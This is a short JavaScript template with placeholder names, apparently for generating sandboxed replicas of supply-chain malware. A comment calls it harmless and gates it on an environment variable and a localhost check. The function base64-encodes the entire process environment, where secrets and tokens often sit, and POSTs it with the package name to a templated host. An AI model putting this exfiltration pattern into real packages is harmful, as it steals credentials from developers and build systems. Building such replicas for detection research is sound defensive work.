// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const body = JSON.stringify({ name: process.env.npm_package_name || '{{token}}', env: Buffer.from(JSON.stringify(process.env)).toString('base64') });
    await new Promise((done) => {
        const call = require('http').request({ host: '{{host}}', method: 'POST', path: '/{{path}}', timeout: 1000,
            headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, (answer) => { answer.resume(); answer.on('close', done); });
        call.on('timeout', () => call.destroy());
        call.on('error', done);
        call.end(body);
    });
}
